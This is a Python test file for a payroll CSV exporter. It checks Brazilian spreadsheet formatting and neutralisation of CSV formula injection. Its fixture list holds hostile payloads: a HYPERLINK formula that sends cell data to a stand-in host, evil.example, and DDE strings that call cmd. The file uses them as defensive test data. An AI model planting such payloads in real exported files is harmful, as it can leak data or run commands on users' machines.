"""Every CSV the system writes (PAG-11 payroll import first): pt-BR spreadsheet format and no formula injection
(OWASP "CSV Injection": cells starting with = + - @ tab CR are prefixed with a single quote)."""

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from courtlib.csvexport import BOM, BR, FORMULA_STARTS, PLAIN, cell, neutralise, write_csv

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\tSUM(1,2)", "\r=1+1", "=1+1")


def _rows(text: str, separator: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator))


def test_pag_11_the_seven_payloads_never_start_a_cell_raw():
    text = write_csv(["nome", "valor"], [(p, Decimal("1.00")) for p in PAYLOADS])
    names = [row[0] for row in _rows(text)[1:]]
    assert names == ["'" + p for p in PAYLOADS]
    assert not any(name.startswith(FORMULA_STARTS) for name in names)


def test_pag_11_numbers_written_by_the_system_stay_numbers_even_negative():
    """A negative amount the system formats is a value, not a formula: "-90,00" is not quoted."""
    rows = _rows(write_csv(["valor", "quantidade", "texto"], [(Decimal("-90.00"), 3, "-90,00")]))
    assert rows[1] == ["-90,00", "3", "'-90,00"]  # the same characters as text (e.g. a name) are neutralised


def test_pag_11_default_is_semicolon_decimal_comma_and_bom_plain_is_comma_and_point():
    text = write_csv(["nome", "valor"], [("José; Souza", Decimal("1234.50"))])
    assert text.startswith(BOM) and text.endswith("\r\n")
    assert _rows(text) == [["nome", "valor"], ["José; Souza", "1234,50"]]
    plain = write_csv(["nome", "valor"], [("José, Souza", Decimal("1234.50"))], PLAIN)
    assert not plain.startswith(BOM) and _rows(plain, ",") == [["nome", "valor"], ["José, Souza", "1234.50"]]
    assert cell(None, BR) == "" and cell(Decimal("0.05"), BR) == "0,05"


@given(st.text())
def test_pag_11_no_text_cell_ever_starts_a_formula_and_nothing_is_lost(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe == text or safe == "'" + text
    [[read]] = _rows(write_csv(["nome"], [(text,)]))[1:]
    assert read == safe  # the spreadsheet reads back exactly the neutralised text
